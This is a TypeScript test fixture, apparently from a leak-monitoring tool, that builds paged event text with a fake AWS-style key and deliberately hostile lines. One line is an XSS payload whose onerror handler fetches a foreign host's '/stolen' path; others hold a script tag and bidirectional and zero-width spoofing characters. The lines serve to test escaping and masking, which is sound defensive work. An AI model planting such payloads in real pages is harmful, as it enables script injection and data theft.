import type { EventRow, EventText } from '@leakwatch/contracts';
import { FOREIGN_HOST } from './events.ts';

const PAGES = 2;
const SECRET = 'corp.example';
/** In the shape of a key, and none. */
export const VALUE = 'AKIA-not-a-key-889';
const DAY_MS = 86_400_000;

/** Hostile lines among plain ones; three of each page match. */
const LINES = [
  'import os',
  `SMTP_HOST = "mail.${SECRET}"`,
  `<img src=x onerror="fetch('${FOREIGN_HOST}/stolen')"> <script>window.hacked = true</script>`,
  'access_level = "user\u202e \u2066// admin\u2069 \u2066"; zero\u200bwidth \u0007',
  `<mark>not ours</mark> &lt;b&gt; ${'a1b2c3d4'.repeat(40)}`,
  `# Доступ к стенду: ${VALUE}`,
  '',
];

/** The kept text of an event, of so many lines. */
export function makeEventText(
  event: EventRow,
  { page, revealed = false }: { page?: number; revealed?: boolean },
  lines: number,
): EventText {
  const number = Math.min(page ?? 0, PAGES - 1);
  const count = Math.ceil(lines / PAGES);
  const masked = (line: string) => (revealed ? line : line.replace(VALUE, 'AKIA…889'));
  const textOf = (at: number) =>
    Array.from({ length: count }, (_, line) => masked(LINES[(line + at) % LINES.length] ?? '')).join('\n') + '\n';
  const texts = Array.from({ length: PAGES }, (_, at) => textOf(at));
  const places = texts.flatMap((text, at) =>
    [...text.matchAll(/corp\.example/g)].slice(0, 3).map(({ index }) => ({ page: at, start: index, end: index + SECRET.length })),
  );
  const bytes = texts.join('').length;
  return {
    text_full: texts[number] ?? '',
    page: number,
    pages: PAGES,
    first_line: 1 + number * count,
    continues_line: false,
    places,
    bytes: bytes * 3,
    kept_bytes: bytes,
    sha256: 'c0ffee'.repeat(10) + 'c0ff',
    captured_at: event.created,
    address: event.file_url,
    expires_at: new Date(new Date(event.created).getTime() + 365 * DAY_MS).toISOString(),
    original: null,
  };
}
